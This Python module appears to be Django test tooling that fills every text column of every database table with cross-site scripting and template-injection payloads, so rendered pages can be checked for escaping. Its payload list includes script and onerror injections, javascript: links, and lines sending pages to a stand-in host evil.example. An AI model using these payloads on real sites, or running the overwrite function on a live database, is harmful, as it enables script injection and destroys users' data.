"""Words that would do something if a page took them for more than words, and where to put them."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice
from typing import Any

from django.apps import apps
from django.db import models

# What is marked `pwn` must never become an element; `pwned` never be set, no dialog ever open.
PAYLOADS = (
    "<script pwn>pwned=1;alert(1)</script>",
    "<img pwn src=x onerror=pwned=1>",
    '"><img pwn src=x onerror=alert(1)>',
    "'><svg pwn onload=alert(1)>",
    "</title></textarea></script></style><img pwn src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) pwn="',
    "' onmouseover=alert(1) pwn='",
    "`onload=alert(1) pwn`",
    "<iframe pwn srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a pwn href=javascript:alert(1)>press</a>",
    "[press](javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](x){onerror=alert(1)}",
    "<style pwn>@import '//evil.example/x.css';</style>",
    "<link pwn rel=stylesheet href=//evil.example/x.css>",
    "<base pwn href=//evil.example/>",
    "<meta pwn http-equiv=refresh content='0;//evil.example/'>",
    "<form pwn action=//evil.example/><button>go</button>",
    "<div pwn hx-get=/ hx-trigger=load></div>",
    "<object pwn data=javascript:alert(1)></object>",
    "<math pwn><mtext></p><img pwn src=x onerror=alert(1)></math>",
    "<noscript><p title='</noscript><img pwn src=x onerror=alert(1)>'>",
    "--><img pwn src=x onerror=alert(1)><!--",
    "]]><img pwn src=x onerror=alert(1)>",
    "{{ 7|add:7 }}{% now 'Y' %}{% load x %}${7*7}",
    "%(name)s %s {0} {name}",
    "&lt;img pwn src=x onerror=alert(1)&gt;",
    "&#60;script pwn&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript pwn\\x3ealert(1)\\x3c/script\\x3e",
    "\u202e<img pwn src=x onerror=alert(1)>",
    "＜script pwn＞alert(1)＜/script＞",
)
# What their validators let in: a link is http or https, an address has an @.
LINK = "https://example.org/\"'><svg/pwn/onload=alert(1)>?x=javascript:alert(1)"
ADDRESS = '"><svg/pwn/onload=alert(1)>"@example.org'
# Columns that hold no words of anybody: what they are is decided by the app.
NO_WORDS = {
    "sessions.Session",
    "contenttypes.ContentType",
    "auth.Permission",
    "accounts.CacheEntry",
    "account.EmailConfirmation.key",
    "accounts.User.password",
    "admin.LogEntry.object_id",
    "usersessions.UserSession.session_key",
    "assessments.DevelopmentPlan.feed_digest",
    "assessments.DevelopmentPlan.feed_language",
    "assessments.KeptVerdict.seen",
    "framework.DocumentImport.after",
}


def fitting(length: int | None, start: int) -> str:
    """As many payloads as fit into so many letters, all of them without a limit."""
    found: list[str] = []
    for payload in islice(cycle(PAYLOADS), start, start + len(PAYLOADS)):
        if length is None or len(" ".join([*found, payload])) <= length:
            found.append(payload)
    return " ".join(found)


def columns() -> Iterator[tuple[type[models.Model], Any]]:
    """Every column of every table that can hold words: a new one joins by itself."""
    for model in apps.get_models(include_auto_created=True):
        for column in model._meta.concrete_fields:
            label = model._meta.label
            text = isinstance(column, models.CharField | models.TextField)
            words = text and not isinstance(column, models.SlugField) and not column.choices
            if words and not {label, f"{label}.{column.name}"} & NO_WORDS:
                yield model, column


def poison(start: int) -> int:
    """Put payloads into every row of every such column; gives how many values were written.

    `start` chooses the first payload: short columns hold few at a time.
    """
    written = 0
    for n, (model, column) in enumerate(columns()):
        rows = list(model._base_manager.only("pk"))
        for m, row in enumerate(rows):
            setattr(row, column.name, value_for(column, start + n + m, unique=m))
        model._base_manager.bulk_update(rows, [column.name], batch_size=200)
        written += len(rows)
    return written


def value_for(column: Any, start: int, *, unique: int) -> str:
    """What fits the column; no two rows are given the same."""
    if isinstance(column, models.URLField):
        return f"{LINK}&{unique}"
    if isinstance(column, models.EmailField):
        return f"{unique}{ADDRESS}"
    if column.max_length and column.max_length < len("<b pwn>"):
        return "<b>"[: column.max_length]
    room = None if column.max_length is None else column.max_length - 6
    return f"{unique} {fitting(room, start)}"
